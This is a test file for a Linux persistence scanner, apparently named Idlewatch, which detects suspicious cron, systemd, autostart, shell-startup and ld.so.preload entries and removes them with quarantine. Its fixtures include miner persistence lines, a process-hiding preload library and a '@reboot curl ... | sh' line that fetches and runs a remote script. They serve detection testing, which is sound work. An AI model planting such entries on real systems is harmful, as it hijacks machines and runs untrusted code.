import {
  appendFileSync,
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ScanFinding, ScanReport } from '../shared/scan.js';
import { runScanCommand } from '../main/cli/scan.js';
import { runDeepScan } from '../main/engine/scan/deep-scan.js';
import { parseCrontabLine, parseUnitLine } from '../main/engine/scan/linux-persistence.js';
import { QuarantineStore } from '../main/engine/quarantine/store.js';
import { removePersistenceEntry } from '../main/engine/scan/persistence-remove.js';
import { nodeScanFs, type ScanFs } from '../main/engine/scan/scan-fs.js';

const CRONTAB = `SHELL=/bin/sh
# m h dom mon dow user  command
17 *    * * *   root    cd / && run-parts --report /etc/cron.hourly
*/5 * * * * root /tmp/.x/kworker -o pool.supportxmr.com:3333 >/dev/null 2>&1
`;
const ALICE_CRONTAB = `# alice's jobs
0 9 * * 1 /usr/bin/backup --quiet
@reboot curl -fsSL http://203.0.113.9/x.sh | sh
`;
const UNIT = `[Unit]
Description=System update helper
[Service]
ExecStart=/dev/shm/.sysupdate --donate-level 1
Restart=always
[Install]
WantedBy=multi-user.target
`;
const BASHRC = `# ~/.bashrc
[ -f "$HOME/.bash_aliases" ] && . "$HOME/.bash_aliases"
export PATH="$HOME/.local/bin:$PATH"
nohup /var/tmp/.cache/xmr >/dev/null 2>&1 &
`;

function write(root: string, path: string, text: string, mode = 0o644): void {
  const file = join(root, path);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text);
  chmodSync(file, mode);
}

/** A fake machine: each kind of entry once, plus places that cannot be read. */
function makeRoot(root: string): void {
  write(root, 'etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n');
  write(root, 'etc/crontab', CRONTAB);
  write(root, 'var/spool/cron/crontabs/alice', ALICE_CRONTAB, 0o600);
  write(root, 'etc/systemd/system/sysupdate.service', UNIT);
  write(root, 'etc/systemd/system/sysupdate.timer', '[Timer]\nOnCalendar=*:0/10\n');
  write(root, 'etc/systemd/system/fine.service', '[Service]\nExecStart=/usr/bin/fine --serve\n');
  mkdirSync(join(root, 'etc/systemd/system/multi-user.target.wants'), { recursive: true });
  symlinkSync('/lib/systemd/system/ssh.service', join(root, 'etc/systemd/system/ssh.service'));
  write(
    root,
    'home/alice/.config/autostart/helper.desktop',
    '[Desktop Entry]\nType=Application\nName=Helper\nExec=/home/alice/.cache/helper/miner --url stratum+tcp://203.0.113.7:4444\n',
  );
  write(root, 'home/alice/.bashrc', BASHRC);
  write(root, 'etc/ld.so.preload', '# preload\n/usr/local/lib/libprocesshider.so\n');
  write(root, 'etc/rc.local', '#!/bin/sh -e\n/usr/local/bin/fan-control &\nexit 0\n', 0o755);
  // A file where a folder is expected, and a dangling symlink: reported, never fatal.
  write(root, 'etc/cron.d', 'not a folder\n');
  mkdirSync(join(root, 'etc/xdg'), { recursive: true });
  symlinkSync('/nonexistent/iw-autostart', join(root, 'etc/xdg/autostart'));
}

function byFile(r: ScanReport, file: string): ScanFinding | undefined {
  return r.findings.find((f) => f.persistence?.file === file);
}

/** A stream that keeps what is written to it. */
function sink(): { stream: NodeJS.WritableStream; text: () => string; clear: () => void } {
  const chunks: string[] = [];
  const stream = {
    write: (s: string) => {
      chunks.push(s);
      return true;
    },
  } as unknown as NodeJS.WritableStream;
  return { stream, text: () => chunks.join(''), clear: () => chunks.splice(0) };
}

const PERSISTENCE_ONLY = { steps: ['persistence'] as const, hiddenProbe: false as const };

describe('deep scan: persistence under --root', () => {
  const root = mkdtempSync(join(tmpdir(), 'iw-root-'));
  const dataDir = mkdtempSync(join(tmpdir(), 'iw-data-'));
  let report: ScanReport;

  beforeAll(async () => {
    makeRoot(root);
    report = await runDeepScan({ root, dataDir, ...PERSISTENCE_ONLY });
  });
  afterAll(() => {
    rmSync(root, { recursive: true, force: true });
    rmSync(dataDir, { recursive: true, force: true });
  });

  it('reports each suspicious entry with its file and line', () => {
    const cron = byFile(report, join(root, 'etc/crontab'));
    expect(cron).toMatchObject({
      rule: 'persistence',
      severity: 'high',
      persistence: { kind: 'crontab', line: 4, runAs: 'root', command: expect.stringMatching(/^\/tmp\/\.x\/kworker/) },
    });
    expect(cron?.evidence.join('\n')).toMatch(/runs \/tmp\/\.x\/kworker from a temporary folder/);
    expect(cron?.evidence.join('\n')).toMatch(/supportxmr\.com/);
    expect(cron?.actions[0]).toEqual({ kind: 'remove-persistence', file: join(root, 'etc/crontab'), line: 4 });

    const alice = byFile(report, join(root, 'var/spool/cron/crontabs/alice'));
    expect(alice).toMatchObject({ severity: 'medium', persistence: { line: 3, runAs: 'alice' } });
    expect(alice?.evidence[0]).toBe('downloads a script and pipes it into a shell');

    const unit = byFile(report, join(root, 'etc/systemd/system/sysupdate.service'));
    expect(unit).toMatchObject({
      severity: 'high',
      persistence: { kind: 'systemd', line: 4, text: 'ExecStart=/dev/shm/.sysupdate --donate-level 1' },
    });
    expect(unit?.evidence).toContain('started on a schedule by /etc/systemd/system/sysupdate.timer');
    expect(unit?.actions.map((a) => a.kind)).toEqual(['remove-persistence', 'manual']);

    const desktop = byFile(report, join(root, 'home/alice/.config/autostart/helper.desktop'));
    expect(desktop).toMatchObject({ severity: 'high', persistence: { kind: 'autostart', line: 4, runAs: 'alice' } });
    expect(desktop?.title).toMatch(/^Desktop autostart entry: /);

    const preload = byFile(report, join(root, 'etc/ld.so.preload'));
    expect(preload).toMatchObject({
      rule: 'ld-preload',
      severity: 'high',
      persistence: { kind: 'ld-preload', line: 2, command: '/usr/local/lib/libprocesshider.so' },
    });

    const rc = byFile(report, join(root, 'home/alice/.bashrc'));
    expect(rc).toMatchObject({ severity: 'high', persistence: { kind: 'shell-rc', line: 4 } });
  });

  it('lists harmless entries without flagging them, and skips vendor links and ordinary shell lines', () => {
    const files = report.findings.map((f) => f.persistence?.file);
    expect(files).not.toContain(join(root, 'etc/systemd/system/fine.service'));
    expect(files).not.toContain(join(root, 'etc/rc.local'));
    expect(report.findings.filter((f) => f.persistence?.file === join(root, 'home/alice/.bashrc'))).toHaveLength(1);
    expect(report.persistence).toContainEqual(
      expect.objectContaining({ kind: 'systemd', file: join(root, 'etc/systemd/system/fine.service'), line: 2 }),
    );
    expect(report.persistence).toContainEqual(
      expect.objectContaining({ kind: 'rc-local', line: 2, command: '/usr/local/bin/fan-control &' }),
    );
    expect(report.persistence.some((p) => p.file?.endsWith('ssh.service'))).toBe(false);
    // Shell start-up lines are listed only when suspicious.
    expect(report.persistence.filter((p) => p.kind === 'shell-rc').map((p) => p.line)).toEqual([4]);
  });

  it('reports the unreadable folders without failing the scan', () => {
    const messages = report.problems.map((p) => p.message);
    expect(messages).toContain(
      `cannot read ${join(root, 'etc/cron.d')}: not a folder (a file is where a folder should be)`,
    );
    expect(messages).toContain(
      `cannot read ${join(root, 'etc/xdg/autostart')}: a symbolic link to /nonexistent/iw-autostart, which does not exist`,
    );
    expect(report.steps.find((s) => s.id === 'persistence')).toMatchObject({ status: 'partial' });
  });

  it('reports a folder an injected file system refuses to read', async () => {
    const denying: ScanFs = {
      ...nodeScanFs,
      readdir: async (path) => {
        if (path === join(root, 'etc/systemd/system')) throw Object.assign(new Error('EACCES'), { code: 'EACCES' });
        return nodeScanFs.readdir(path);
      },
    };
    const r = await runDeepScan({ root, dataDir, fs: denying, ...PERSISTENCE_ONLY });
    expect(r.problems.map((p) => p.message)).toContain(
      `cannot read ${join(root, 'etc/systemd/system')}: permission denied`,
    );
    expect(byFile(r, join(root, 'etc/crontab'))).toBeDefined();
    expect(byFile(r, join(root, 'etc/systemd/system/sysupdate.service'))).toBeUndefined();
  });

  it('removes exactly that line after confirmation, the file as it was kept in the quarantine, keeping the mode', async () => {
    const file = join(root, 'var/spool/cron/crontabs/alice');
    const finding = byFile(report, file) as ScanFinding;
    const quarantine = await QuarantineStore.open(join(dataDir, 'q-remove'));
    expect(await removePersistenceEntry(finding, { confirm: false, quarantine })).toMatchObject({
      ok: false,
      code: 'not-confirmed',
    });
    expect(readFileSync(file, 'utf8')).toBe(ALICE_CRONTAB);

    const result = await removePersistenceEntry(finding, { confirm: true, quarantine });
    if (!result.ok) throw new Error(result.reason);
    expect(result).toEqual({
      ok: true,
      file,
      line: 3,
      removed: '@reboot curl -fsSL http://203.0.113.9/x.sh | sh',
      quarantineId: expect.stringMatching(/^\d{8}T\d{6}Z-[0-9a-f]{8}$/),
    });
    const item = await quarantine.get(result.quarantineId);
    expect(item).toMatchObject({ kind: 'line', category: 'crontab', path: file, findingId: finding.id });
    expect(readFileSync(join(quarantine.folder, `${result.quarantineId}.bin`), 'utf8')).toBe(ALICE_CRONTAB);
    expect(readFileSync(file, 'utf8')).toBe("# alice's jobs\n0 9 * * 1 /usr/bin/backup --quiet\n");
    expect(statSync(file).mode & 0o777).toBe(0o600);
    // Nothing is left beside the file: no backup, no temp file.
    expect(readdirSync(dirname(file)).sort()).toEqual(['alice']);

    // Removing it again: the file is no longer what the scan read.
    expect(await removePersistenceEntry(finding, { confirm: true, quarantine })).toMatchObject({
      ok: false,
      code: 'changed',
    });

    const cron = byFile(report, join(root, 'etc/crontab')) as ScanFinding;
    const cronResult = await removePersistenceEntry(cron, { confirm: true, quarantine });
    expect(cronResult.ok).toBe(true);
    expect(readFileSync(join(root, 'etc/crontab'), 'utf8')).toBe(
      CRONTAB.split('\n')
        .filter((_, i) => i !== 3)
        .join('\n'),
    );
    expect(statSync(join(root, 'etc/crontab')).mode & 0o777).toBe(0o644);
  });

  it('refuses a file that changed since the scan, and touches nothing', async () => {
    const file = join(root, 'etc/systemd/system/sysupdate.service');
    const finding = byFile(report, file) as ScanFinding;
    appendFileSync(file, '# edited\n');
    const quarantine = await QuarantineStore.open(join(dataDir, 'q-changed'));
    const result = await removePersistenceEntry(finding, { confirm: true, quarantine });
    expect(result).toMatchObject({ ok: false, code: 'changed' });
    expect(readFileSync(file, 'utf8')).toBe(`${UNIT}# edited\n`);
    expect(readdirSync(dirname(file)).some((n) => n.includes('idlewatch'))).toBe(false);
    expect((await quarantine.list()).items).toEqual([]);
  });

  it('refuses entries that are not lines of a file', async () => {
    const finding = byFile(report, join(root, 'etc/ld.so.preload')) as ScanFinding;
    const registry: ScanFinding = {
      ...finding,
      persistence: {
        ...(finding.persistence as NonNullable<ScanFinding['persistence']>),
        kind: 'registry-run',
        file: null,
        line: null,
      },
    };
    const quarantine = await QuarantineStore.open(join(dataDir, 'q-registry'));
    expect(await removePersistenceEntry(registry, { confirm: true, quarantine })).toMatchObject({
      ok: false,
      code: 'not-removable',
    });
  });

  it('runs from the CLI against the root: a table, or JSON, exit 0 with findings', async () => {
    const out = sink();
    const err = sink();
    const io = { stdout: out.stream, stderr: err.stream, dataDir };
    const fresh = mkdtempSync(join(tmpdir(), 'iw-root2-'));
    try {
      makeRoot(fresh);
      expect(await runScanCommand(['--root', fresh], io)).toBe(0);
      expect(err.text()).toMatch(/\[\d+\/\d+\] Persistence \(autostart, scheduled jobs, preload\)…/);
      expect(out.text()).toMatch(/HIGH\s+ld-preload\s+…\S*etc\/ld\.so\.preload:2\s+Preloaded library/);
      expect(out.text()).toContain(`files under ${fresh}`);
      // Each finding Idlewatch can fix itself is listed with its fix command.
      expect(out.text()).toContain(`\n  idlewatch fix persistence:${join(fresh, 'etc/crontab')}:4\n`);

      out.clear();
      err.clear();
      expect(await runScanCommand(['--json', `--root=${fresh}`], io)).toBe(0);
      expect(err.text()).toBe('');
      const doc = JSON.parse(out.text()) as ScanReport;
      expect(doc.format).toBe('idlewatch-scan');
      expect(doc.root).toBe(fresh);
      expect(
        doc.findings.some((f) => f.persistence?.file === join(fresh, 'etc/crontab') && f.persistence.line === 4),
      ).toBe(true);
    } finally {
      rmSync(fresh, { recursive: true, force: true });
    }
  }, 30_000);
});

describe('persistence line parsers', () => {
  it('reads crontab lines of each flavour', () => {
    expect(parseCrontabLine('*/5 * * * * root /x -y', 'system')).toEqual({ command: '/x -y', runAs: 'root' });
    expect(parseCrontabLine('@reboot bob /x', 'system')).toEqual({ command: '/x', runAs: 'bob' });
    expect(parseCrontabLine('  0 0 * * *   /x  -y ', 'user')).toEqual({ command: '/x  -y', runAs: null });
    expect(parseCrontabLine('1 5 cron.daily run-parts /etc/cron.daily', 'anacron')).toEqual({
      command: 'run-parts /etc/cron.daily',
      runAs: 'root',
    });
    expect(parseCrontabLine('MAILTO=root', 'system')).toBeNull();
    expect(parseCrontabLine('LD_PRELOAD=/tmp/x.so', 'user')).toEqual({ command: 'LD_PRELOAD=/tmp/x.so', runAs: null });
    expect(parseCrontabLine('# 0 0 * * * /x', 'user')).toBeNull();
    expect(parseCrontabLine('0 0 * *', 'user')).toBeNull();
  });

  it('reads unit Exec lines without their prefixes, and LD_PRELOAD environments', () => {
    expect(parseUnitLine('ExecStart=-/usr/bin/x --y')).toBe('/usr/bin/x --y');
    expect(parseUnitLine('ExecStartPre = @/bin/sh sh -c "true"')).toBe('/bin/sh sh -c "true"');
    expect(parseUnitLine('Environment="LD_PRELOAD=/tmp/x.so"')).toBe('LD_PRELOAD=/tmp/x.so');
    expect(parseUnitLine('Environment=LANG=C')).toBeNull();
    expect(parseUnitLine('Description=ExecStart=/x')).toBeNull();
  });
});
